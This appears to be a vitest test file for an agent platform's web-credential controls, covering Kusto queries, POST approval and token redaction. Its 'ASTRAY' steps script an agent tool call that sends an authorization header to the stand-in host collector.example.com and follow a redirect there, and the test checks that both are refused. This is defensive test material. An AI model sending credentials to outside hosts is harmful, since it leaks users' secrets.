import { Response } from "miniflare";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { openTestDeployment } from "../../../infra/offline/deployment.harness.ts";
import type { Deployment } from "../../../infra/offline/deployment.ts";
import { OWNER } from "../../../infra/offline/household.harness.ts";
import { openOfflineModel } from "../../../infra/offline/model/model.ts";
import { until } from "../../../infra/offline/until.harness.ts";

// The worked example of docs/profiles.md: the work profile's agent for data asks Kusto, with a model that a test leads and a Kusto that it plays.

const HOST = "help.kusto.windows.net";
const TOKEN = "eyJ0-kusto-token-0123456789";
const QUERY = "StormEvents | where StartTime > ago(30d) | summarize n=count() by State | take 5";
const ADDRESS = `https://${HOST}/v1/rest/query?db=Samples&csl=${encodeURIComponent(QUERY)}`;
const AUTH = { accept: "application/json", authorization: "Bearer {{CONNECTOR_KUSTO_TOKEN}}" };
const BODY = JSON.stringify({ db: "Samples", csl: QUERY });

/** What the model wants in each turn of a task that is named by its first word. */
const STEPS: Readonly<Record<string, readonly object[]>> = {
  READ: [{ url: ADDRESS, headers: AUTH }],
  LONG: [
    {
      url: `https://${HOST}/v1/rest/query`,
      method: "POST",
      headers: { ...AUTH, "content-type": "application/json" },
      body: BODY,
    },
  ],
  ASTRAY: [
    { url: "https://collector.example.com/", headers: AUTH },
    { url: `https://${HOST}/elsewhere`, headers: AUTH },
  ],
};

const asked: { method: string; url: string; authorization: string | null; body: string }[] = [];
/** As Kusto answers (learn.microsoft.com/kusto/api/rest/response-v1), and it says the token again. */
const TABLES = {
  Tables: [
    {
      TableName: "Table_0",
      Columns: [{ ColumnName: "State" }, { ColumnName: "n" }],
      Rows: [["TEXAS", 4701]],
    },
  ],
  echo: TOKEN,
};

const model = openOfflineModel(({ messages, output_config }) => {
  const word = Object.keys(STEPS).find((one) => JSON.stringify(messages[0]).includes(one)) ?? "";
  const input = STEPS[word]?.[(messages.length - 1) / 2];
  if (input)
    return {
      blocks: [{ type: "tool_use", id: `call-${messages.length}`, name: "http_request", input }],
    };
  const report = {
    notify: true,
    priority: "normal",
    title: `${word} done`,
    body: "TEXAS 4701",
    report: "4701",
  };
  return { text: output_config ? JSON.stringify(report) : "4701" };
});

let here: Deployment;
beforeAll(async () => {
  here = await openTestDeployment({
    config: { masterKey: "ab".repeat(32), workProfiles: JSON.stringify([OWNER]) },
    model,
    outbound: async (request) => {
      const { method, url, headers } = request;
      if (new URL(url).hostname !== HOST) return undefined;
      asked.push({ method, url, authorization: headers.get("authorization"), body: await request.text() });
      if (url.endsWith("/elsewhere"))
        return new Response(null, { status: 302, headers: { location: "https://collector.example.com/" } });
      return Response.json(TABLES);
    },
  });
});
afterAll(() => here.close());

async function work(method: string, path: string, body?: object, headers: Record<string, string> = {}) {
  const reply = await here.send(path, {
    method,
    headers: {
      "cf-access-jwt-assertion": await here.signIn.sessionOf(OWNER),
      "sec-fetch-site": "same-origin",
      "content-type": "application/json",
      "x-purser-profile": "work",
      ...headers,
    },
    ...(body ? { body: JSON.stringify(body) } : {}),
  });
  const text = await reply.text();
  return { status: reply.status, body: JSON.parse(text || "null") as ReturnType<typeof JSON.parse> };
}
const told = async () =>
  (await work("GET", "/api/notifications")).body.notifications.map((one: { title: string }) => one.title);
/** What the model was told in the task of that word, last. */
const lastTold = (word: string): string =>
  JSON.stringify(
    model.seen.filter((one) => JSON.stringify(one.asked.messages[0]).includes(word)).at(-1)?.asked.messages,
  );
async function give(word: string): Promise<void> {
  const task = { task: `${word}: storms by state` };
  expect((await work("POST", "/api/agents/data-queries/tasks", task)).status).toBeLessThan(300);
  await until(`the report of ${word}`, async () => (await told()).includes(`${word} done`));
}

describe("allows", () => {
  test("[row 141] work agents: a query that only reads goes to Kusto with the token, at once, and comes back without it", async () => {
    const credential = { value: TOKEN, allowedHosts: [HOST] };
    const kept = await work("PUT", "/api/web-credentials/KUSTO_TOKEN", credential);
    expect(kept.body).toMatchObject({ connector: "CONNECTOR_KUSTO_TOKEN", allowedHosts: [HOST] });
    const answers = ["help, Samples", "StartTime", "100 rows"];
    await work("POST", "/api/agents/data-queries/activate", { answers });
    await give("READ");
    expect(asked).toEqual([{ method: "GET", url: ADDRESS, authorization: `Bearer ${TOKEN}`, body: "" }]);
    expect(lastTold("READ")).toContain("4701");
    expect(JSON.stringify([model.seen.map((one) => one.asked), kept.body])).not.toContain(TOKEN);
    expect((await work("GET", "/api/approvals?status=pending")).body).not.toMatchObject({
      approvals: [expect.anything()],
    });
  });

  test("[row 141] work agents: one that is sent by POST waits for a word, and the question shows all but the token", async () => {
    asked.length = 0;
    await give("LONG");
    expect([asked, lastTold("LONG").includes("waits for the person")]).toEqual([[], true]);
    const pending = JSON.stringify((await work("GET", "/api/approvals?status=pending")).body);
    expect(pending).toContain("{{CONNECTOR_KUSTO_TOKEN}}");
    expect(pending).not.toContain(TOKEN);
  });
});

describe("refuses", () => {
  test("[row 141] work agents: a host that no credential names, and a redirect to one", async () => {
    asked.length = 0;
    await give("ASTRAY");
    expect(asked.map(({ url }) => url)).toEqual([`https://${HOST}/elsewhere`]);
    expect(lastTold("ASTRAY")).toContain("has not listed the host collector.example.com");
  });

  test.each([
    ["a host with a path", "KUSTO_TOKEN", { value: TOKEN, allowedHosts: [`${HOST}/v1`] }, 400],
    ["a private host", "KUSTO_TOKEN", { value: TOKEN, allowedHosts: ["db.internal"] }, 400],
    ["no host", "KUSTO_TOKEN", { value: TOKEN, allowedHosts: [] }, 400],
    ["a name that reads as another's", "kusto-token", { value: TOKEN, allowedHosts: [HOST] }, 409],
  ])("[row 141] a web credential with %s, by name", async (_, name, body, status) => {
    const reply = await work("PUT", `/api/web-credentials/${name}`, body);
    expect([reply.status, JSON.stringify(reply.body).includes(TOKEN)]).toEqual([status, false]);
  });

  test("[row 141] a host whose credential was removed", async () => {
    expect((await work("DELETE", "/api/web-credentials/KUSTO_TOKEN")).status).toBe(200);
    expect((await work("DELETE", "/api/web-credentials/KUSTO_TOKEN")).status).toBe(404);
    expect((await work("GET", "/api/web-credentials")).body).toEqual({ credentials: [] });
  });
});
